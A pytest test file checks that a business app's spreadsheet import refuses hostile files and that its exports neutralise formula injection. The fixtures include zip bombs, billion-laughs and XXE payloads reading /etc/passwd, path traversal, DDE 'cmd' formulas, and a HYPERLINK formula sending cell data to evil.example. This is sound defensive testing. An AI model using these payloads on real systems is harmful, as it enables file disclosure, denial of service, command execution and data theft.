"""A file from a stranger on the way through the jobs: a bomb is refused with its reason and leaves nothing behind."""

import csv
import gzip
import io
import stat
import zipfile
from collections.abc import Callable, Iterator

import pytest
from python_calamine import CalamineWorkbook

from tests.builders.company import Company
from tests.builders.http import Json
from tests.builders.imports import brought_in, counted, looked_at, uploaded
from tests.builders.server import Served
from tests.builders.sheets import lines, packed, workbook

RunJobs = Callable[[], int]

SHEET = "xl/worksheets/sheet1.xml"
SHARED = "xl/sharedStrings.xml"
_SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">'
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
OUTSIDE = '<!DOCTYPE worksheet [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
OUTSIDE_BY_NAME = '<!DOCTYPE worksheet [<!ENTITY % a SYSTEM "http://127.0.0.1:1/a.dtd"> %a;]>'
DOOR = "Excel 文件的结构异常，出于安全未打开"
BROKEN = "Excel 文件已损坏，或有密码保护"


def sheet(*cells: str, before: str = "", encoding: str = "utf-8", declared: str = "UTF-8") -> bytes:
    """The part of a workbook that holds its cells, each written as XML."""
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    rows = "".join(f"<row>{cell}</row>" for cell in cells)
    text = f'{declaration}{before}<worksheet xmlns="{_SPREADSHEET}"><sheetData>{rows}</sheetData></worksheet>'
    return text.encode(encoding)


def words(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def shared_bomb() -> bytes:
    """One text of 32,000 characters that 2,000 cells refer to: 64 MB in the reader's memory."""
    book = io.BytesIO()
    text = "A" * 32_000
    with (
        zipfile.ZipFile(io.BytesIO(packed(SHEET, sheet(*['<c t="s"><v>0</v></c>'] * 2_000)))) as source,
        zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.namelist():
            if entry == SHARED:
                shared = f'<sst xmlns="{_SPREADSHEET}"><si><t>{text}</t></si></sst>'
                target.writestr(entry, shared)
            else:
                target.writestr(entry, source.read(entry))
    return book.getvalue()


def many_parts() -> bytes:
    """A million sheets are as many parts; a thousand are more than any workbook of this world has."""
    book = io.BytesIO()
    with zipfile.ZipFile(book, "w") as target:
        for number in range(1_001):
            target.writestr(f"xl/worksheets/sheet{number}.xml", b"<a/>")
    return book.getvalue()


HOSTILE: dict[str, tuple[bytes, str]] = {
    "zip bomb": (packed(SHEET, b" " * 200_000_000), DOOR),
    "more than is ever unzipped": (packed(SHEET, b" " * 300_000_001), "文件过大，最多 300000000 字节"),
    "shared text bomb": (shared_bomb(), "文件过大，最多 50000000 字节"),
    "too many parts": (many_parts(), DOOR),
    "symbolic link": (packed("xl/link.xml", b"/etc/passwd", attributes=(stat.S_IFLNK | 0o777) << 16), DOOR),
    "way out": (packed("../../xl/worksheets/sheet9.xml", b"<a/>"), DOOR),
    "laughs": (packed(SHEET, sheet(words("A1", "&i;"), before=LAUGHS)), DOOR),
    "laughs in shared texts": (packed(SHARED, LAUGHS.encode() + b"<sst><si><t>&i;</t></si></sst>"), DOOR),
    "entity outside": (packed(SHEET, sheet(words("A1", "&a;"), before=OUTSIDE)), DOOR),
    "entity outside, by parameter": (packed(SHEET, sheet(words("A1", "x"), before=OUTSIDE_BY_NAME)), DOOR),
    "entity in the types": (packed("[Content_Types].xml", OUTSIDE.encode() + b"<Types>&a;</Types>"), DOOR),
    "entity in the relations": (packed("xl/_rels/workbook.xml.rels", OUTSIDE.encode() + b"<a>&a;</a>"), DOOR),
    "entity in the properties": (packed("docProps/core.xml", OUTSIDE.encode() + b"<a>&a;</a>"), DOOR),
    "entity in utf-16": (
        packed(SHEET, sheet(words("A1", "&a;"), before=OUTSIDE, encoding="utf-16", declared="")),
        DOOR,
    ),
    "entity in declared utf-16": (
        packed(SHEET, sheet(words("A1", "&a;"), before=OUTSIDE, encoding="utf-16", declared="UTF-16")),
        BROKEN,
    ),
    "entity in utf-7": (
        packed(SHEET, sheet(words("A1", "&a;"), before=OUTSIDE, encoding="utf-7", declared="UTF-7")),
        BROKEN,
    ),
    "entity in utf-32": (
        packed(SHEET, sheet(words("A1", "&a;"), before=OUTSIDE, encoding="utf-32-be", declared="UCS-4")),
        BROKEN,
    ),
    "entity in iso-2022": (
        packed(
            SHEET, sheet(words("A1", "&a;"), before=OUTSIDE, encoding="iso2022_jp", declared="ISO-2022-JP")
        ),
        BROKEN,
    ),
    "gzip": (gzip.compress(b"name\n" + b"A" * 1_000_000), "这不是表格文件"),
    "a row far away": (
        packed(SHEET, sheet(words("A1", "名称"), words("A1048576", "x"))),
        "行数过多，一次最多 200000 行，请分成几个文件",
    ),
    "a column far away": (
        packed(SHEET, sheet(words("A1", "名称"), words("XFD2", "x"))),
        "第 2 行的列过多，最多 256 列",
    ),
    "a corner far away": (
        packed(SHEET, sheet(words("A1", "名称"), words("IV20000", "x"))),
        "单元格过多，最多 4000000 个",
    ),
    "a long cell": (
        packed(SHEET, sheet(words("A1", "名称"), words("A2", "A" * 32_768))),
        "第 2 行第 1 列的内容超过 32767 个字符",
    ),
    "rows": (
        b"name\n" + b"A\n" * 200_001,
        "行数过多，一次最多 200000 行，请分成几个文件",
    ),
    "columns": (lines(["名称", *["x"] * 256]), "第 1 行的列过多，最多 256 列"),
    "columns below": (lines(("名称",), ["x"] * 257), "第 2 行的列过多，最多 256 列"),
    "cells": (
        lines(["名称", *["x"] * 255], *(["A"] * 256 for _ in range(15_700))),
        "单元格过多，最多 4000000 个",
    ),
    "cell": (
        lines(("名称",), ("A" * 32_768,)),
        "第 2 行第 1 列的内容超过 32767 个字符",
    ),
    "open quote": (b'name\n"A\n' + b"B\n" * 1_000, "第 2 行的引号没有成对，其后的内容无法可靠读取"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason_and_leaves_nothing(
    company: Company, run_jobs: RunJobs, served: Served, name: str
) -> None:
    data, reason = HOSTILE[name]
    run = uploaded(company, run_jobs, "parties", data, "客户.xlsx")
    assert (run["state"], run["refusal"], run["allowed_actions"]) == ("refused", reason, [])
    assert company.get("/parties")["items"] == []
    assert left_lying(served, company) == []
    company.refused(409, "platform.wrong_state", "POST", f"/imports/{run['id']}/check", {})
    company.refused(409, "platform.wrong_state", "POST", f"/imports/{run['id']}/start", {})


def left_lying(served: Served, company: Company) -> list[str]:
    """The rows that were laid out and not taken away."""
    return [path.name for path in (served.services.home / "imports" / str(company.tenant_id)).glob("**/*.*")]


def test_a_workbook_inside_a_workbook_stays_closed(company: Company, run_jobs: RunJobs) -> None:
    bomb = packed(SHEET, b" " * 100_000_000)
    run = brought_in(company, run_jobs, "parties", packed("xl/embeddings/inner.xlsx", bomb))
    assert counted(run) == {"rows": 1, "created": 1}


def test_more_bytes_than_a_file_may_have_are_refused_before_they_are_kept(company: Company) -> None:
    before = company.books.fingerprint(company.tenant_id)
    answer = company.upload("/parties/imports", b"name\n" + b"A" * 50_000_000)
    assert (answer.status_code, answer.json()["code"]) == (413, "files.too_large")
    assert company.books.fingerprint(company.tenant_id) == before


CANARIES = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "x\n=1+1",
)


def taken_out(company: Company, run_jobs: RunJobs, format_: str) -> bytes:
    asked: Json = company.post(
        "/parties/export", {"format": format_, "sort": "code", "fields": ["name", "code"]}
    )
    run_jobs()
    return company.client.get(f"/exports/{asked['export_id']}/file").content


def cells_of(data: bytes) -> list[list[str]]:
    return [
        list(map(str, row))
        for row in CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    ]


def parts_of(data: bytes) -> Iterator[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        yield from (book.read(name) for name in book.namelist())


class TestAFormula:
    def test_is_kept_as_text_and_taken_out_so_that_nothing_runs_it(
        self, company: Company, run_jobs: RunJobs
    ) -> None:
        rows = [(text, f"C{number:02}") for number, text in enumerate(CANARIES)]
        run = brought_in(company, run_jobs, "parties", workbook(("名称", "编码"), *rows))
        assert counted(run)["created"] == len(CANARIES)
        kept = [item["name"] for item in company.get("/parties", sort="code")["items"]]
        assert kept == list(CANARIES)

        as_text = taken_out(company, run_jobs, "csv")
        table = list(csv.reader(io.StringIO(as_text.decode("utf-8-sig"), newline="")))[1:]
        assert [row[0] for row in table] == [text if text.startswith("x") else f"'{text}" for text in kept]
        book = taken_out(company, run_jobs, "xlsx")
        assert cells_of(book)[1:] == [[text, f"C{number:02}"] for number, text in enumerate(kept)]
        assert [part for part in parts_of(book) if b"<f>" in part or b"<hyperlink" in part] == []

    @pytest.mark.parametrize("format_", ["csv", "xlsx"])
    def test_comes_back_from_what_was_taken_out_as_it_was(
        self, company: Company, run_jobs: RunJobs, format_: str
    ) -> None:
        plain = [text for text in CANARIES if "\n" not in text and not text.startswith("'")]
        rows = [(text, f"C{number:02}") for number, text in enumerate(plain)]
        brought_in(company, run_jobs, "parties", workbook(("名称", "编码"), *rows))
        data = taken_out(company, run_jobs, format_)
        run = looked_at(company, run_jobs, "parties", data, way="update", key="code")
        assert counted(run) == {"rows": len(plain), "unchanged": len(plain)}

    def test_in_a_bad_row_is_harmless_in_the_file_that_is_given_back(
        self, company: Company, run_jobs: RunJobs
    ) -> None:
        rows = [(text, "12") for text in CANARIES if "\n" not in text]
        run = looked_at(company, run_jobs, "parties", workbook(("名称", "电话", "=cmd|x"), *rows))
        assert counted(run) == {"rows": len(rows), "bad": len(rows)}
        as_text = company.client.get(f"/imports/{run['id']}/bad-rows?format=csv").content
        table = list(csv.reader(io.StringIO(as_text.decode("utf-8-sig"), newline="")))
        assert table[0][:3] == ["名称", "电话", "'=cmd|x"]
        assert [row[0] for row in table[1:]] == [f"'{text}" for text, _ in rows]
        book = company.client.get(f"/imports/{run['id']}/bad-rows?format=xlsx").content
        assert [row[0] for row in cells_of(book)[1:]] == [text for text, _ in rows]
        assert [part for part in parts_of(book) if b"<f>" in part] == []

    def test_as_the_name_of_an_own_field_is_harmless_in_the_head_of_a_file(
        self, company: Company, run_jobs: RunJobs
    ) -> None:
        name = company.post(
            "/record-types/party/fields", {"kind": "text", "labels": {"zh": "=cmd|' /C calc'!A0"}}
        )["name"]
        brought_in(company, run_jobs, "parties", workbook(("名称", "=cmd|' /C calc'!A0"), ("华信", "=1+1")))
        asked = company.post("/parties/export", {"format": "csv", "fields": ["name", name]})
        run_jobs()
        data = company.client.get(f"/exports/{asked['export_id']}/file").content
        assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))) == [
            ["名称", "'=cmd|' /C calc'!A0"],
            ["华信", "'=1+1"],
        ]
